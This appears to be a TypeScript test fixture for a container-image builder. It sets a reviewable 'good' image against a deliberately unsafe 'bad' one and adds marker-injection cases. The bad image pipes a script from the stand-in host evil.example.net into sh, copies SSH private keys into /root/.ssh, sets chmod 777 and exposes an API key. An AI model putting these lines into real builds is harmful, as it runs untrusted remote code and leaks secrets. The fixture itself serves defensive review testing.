// Images that nobody should want: a change that is dangerous, and texts that are not what they look like.
import { Image } from "pithy-image";
import type { Contents } from "./project.ts";

const SCRIPT = "set -e\ncd /app\npython -m venv .venv\n.venv/bin/pip install --upgrade pip\n";

/** What a reviewer would let pass. */
export const good = () =>
  Image.base("python:3.12-slim-bookworm")
    .runCommands(
      `curl -fsSLO https://downloads.example.com/tool.tgz && echo "${"a".repeat(64)}  tool.tgz" | sha256sum -c`,
    )
    .addLocalDir("src", "/app")
    .runScript(SCRIPT)
    .env({ LOG: "info" })
    .user("nobody");

export const GOOD: Contents = { "src/main.py": "print(1)\n" };

export const KEY = "q8Zr2LkV9mXw4TnB7cJd5HsF";

/** The same after a change that a reviewer must not let pass. */
export const bad = () =>
  Image.base("python:latest")
    .runCommands("curl -fsSL https://evil.example.net/tool.sh | sh")
    .addLocalDir("src", "/app")
    .addLocalDir("keys", "/root/.ssh")
    .runScript(SCRIPT.replace("--upgrade pip", "--upgrade pip openai").concat("chmod 777 /app\n"))
    .env({ LOG: "info", API_KEY: KEY });

const PRIVATE_KEY =
  "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQ\n-----END OPENSSH PRIVATE KEY-----\n";

export const BAD: Contents = { "src/main.py": "print(2)\n", "keys/id_ed25519": PRIVATE_KEY };

/** An image in which each text has the marker. */
export const odd = (marker: string) =>
  Image.base("debian:12")
    .addLocalDir("src", `/srv/${marker}app`, { exclude: ["*.log"] })
    .env({ NAME: `value${marker}` })
    .runCommands(`echo ${marker}hi`)
    .runScript(`echo one\necho ${marker}two\n`)
    .label({ [`label${marker}`]: `of${marker}it` });

/** Its files, the names of which have it as well. */
export const oddContents = (marker: string, more = ""): Contents => ({
  [`src/a${marker}${more}txt.exe`]: "1\n",
  [`src/left${marker}out.log`]: "1\n",
});
